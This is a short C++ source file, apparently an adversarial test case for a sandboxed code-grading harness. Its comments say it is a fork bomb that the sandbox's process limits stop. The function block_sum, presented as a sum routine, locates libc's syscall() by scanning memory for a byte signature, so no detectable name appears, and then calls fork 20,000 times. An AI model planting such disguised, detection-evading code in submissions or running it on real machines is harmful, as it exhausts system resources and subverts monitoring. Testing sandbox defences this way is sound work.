// attack: forks without end, by nameless system calls
// expect: timed_out|crashed|wrong_answer
// stopped by: the sandbox: limits of processes, by control group and by user
#include <cuda_runtime.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

namespace {

// The C library's own syscall(), found by its first instructions below the library's data: no name
// of it is in this file. x86-64 and the GNU C library; elsewhere the search ends the program.
using Syscall = long (*)(long, ...);
Syscall find_syscall() {
  const unsigned char begin[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6};
  const auto* at = reinterpret_cast<const unsigned char*>(stdout);
  while (std::memcmp(--at, begin, sizeof begin) != 0) {
  }
  return reinterpret_cast<Syscall>(reinterpret_cast<std::uintptr_t>(at));
}

void bomb() {
  const Syscall call = find_syscall();
  for (int i = 0; i < 20000; ++i) call(57);  // fork
}

}  // namespace

void block_sum(float*, const float*, int) { bomb(); }
